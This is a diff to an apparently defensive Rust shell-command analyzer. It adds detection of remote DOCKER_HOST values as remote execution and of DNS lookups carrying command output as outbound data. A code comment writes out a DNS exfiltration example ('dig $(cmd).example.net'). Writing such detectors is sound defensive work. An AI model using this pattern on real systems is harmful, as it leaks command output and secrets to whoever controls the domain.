@@ -94,6 +94,13 @@ pub fn variable(shell: &Shell<'_, '_>, state: &mut State, name: &str, value: &Va
         direct(Verb::SecurityWeaken);
         return true;
     }
+    let socket = ["unix:", "npipe:", "fd:"].iter().any(|s| value.prefix().starts_with(s));
+    if name == "DOCKER_HOST" && !socket && net::parse_url(value.prefix()).is_some_and(|u| !u.local) {
+        let effect = effects::on_url(Verb::RemoteExec, value.prefix(), call.span);
+        let (words, program) = (call.words(), "environment".to_owned());
+        scene.add(Action { words, program, span: call.span, effects: vec![effect] });
+        return true;
+    }
     match code::environment_code(name, value.prefix()) {
         code::EnvCode::No => return false,
         code::EnvCode::Shell => drop(shell_text(
@@ -107,6 +114,7 @@ pub fn variable(shell: &Shell<'_, '_>, state: &mut State, name: &str, value: &Va
         code::EnvCode::Loads => drop(unknown(scene, call, &format!("`{name}` makes programs load other code"))),
         code::EnvCode::Agent => direct(Verb::AgentControl),
         code::EnvCode::Weakens => direct(Verb::SecurityWeaken),
+        code::EnvCode::Registry => direct(Verb::EnvSet),
     }
     true
 }
@@ -424,6 +432,14 @@ impl Call<'_, '_, '_> {
             Some(h) => effects::on_host(verb, h, span),
             None => effects::plain(verb, Target::Unknown("a host that is not known".into()), span),
         };
+        if verb == Verb::NetProbe && carries_output(value) {
+            // `dig $(cmd).example.net`: whoever keeps the names there reads what the command printed.
+            effect = effects::plain(
+                Verb::NetSend,
+                Target::Unknown("a name that carries what a command prints".into()),
+                span,
+            );
+        }
         if value.is_secret() {
             expose(&mut effect);
         }
@@ -512,6 +528,7 @@ impl Call<'_, '_, '_> {
     /// Hands the effects over as one action.
     pub fn finish(mut self) {
         self.secrets_named();
+        super::foreign::look(&mut self);
         let outward = |v: Verb| {
             matches!(
                 v,
@@ -616,6 +633,12 @@ fn vouch(program: &str, effect: &mut Effect, name: &str) {
 fn is_forge_shorthand(program: &str, name: &str) -> bool {
     let node = matches!(program, "npm" | "pnpm" | "yarn" | "bun");
     node && !name.starts_with(['@', '.', '/', '~', '-']) && name.contains('/') && !name.contains(['*', ':'])
+}
+
+/// A name below somebody's domain whose first part is what a command prints.
+fn carries_output(value: &Val) -> bool {
+    let [Piece::Gap(first), .., Piece::Text(last)] = value.pieces() else { return false };
+    first.why.starts_with("the output of") && last.starts_with('.') && last.trim_matches('.').contains('.')
 }
 
 /// A secret goes out with it.
